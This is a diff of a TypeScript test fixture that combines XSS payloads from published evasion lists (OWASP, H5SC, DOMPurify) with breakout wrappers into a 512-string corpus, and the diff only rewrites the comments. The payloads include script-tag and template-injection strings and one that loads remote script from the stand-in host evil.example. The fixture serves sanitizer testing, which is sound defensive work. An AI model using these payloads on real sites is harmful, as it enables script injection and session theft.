@@ -1,4 +1,7 @@
-/** Ways to have a browser run `alert(1)`, by the families of the published lists (OWASP evasion, H5SC, DOMPurify's own). */
+/**
+ * Texts that try to make a browser run `alert(1)`, from the families of published lists (OWASP evasion, H5SC,
+ * DOMPurify).
+ */
 const scripts: readonly string[] = [
   '<script>alert(1)</script>',
   '<script src=//evil.example/x.js></script>',
@@ -66,7 +69,7 @@ const scripts: readonly string[] = [
   '${alert(1)}{{constructor.constructor("alert(1)")()}}',
 ];
 
-/** What is put around them to break out of where a text stands. */
+/** Wrappers that try to break out of the place where a text is inserted. */
 const guises: readonly ((script: string) => string)[] = [
   (script) => script,
   (script) => `">${script}`,
@@ -78,5 +81,5 @@ const guises: readonly ((script: string) => string)[] = [
   (script) => `=${script}`,
 ];
 
-/** 512 texts that must do nothing but stand there, wherever they are shown (X1). */
+/** 512 texts that must stay plain text wherever they are shown (X1). */
 export const scriptCorpus: readonly string[] = guises.flatMap((guise) => scripts.map(guise));
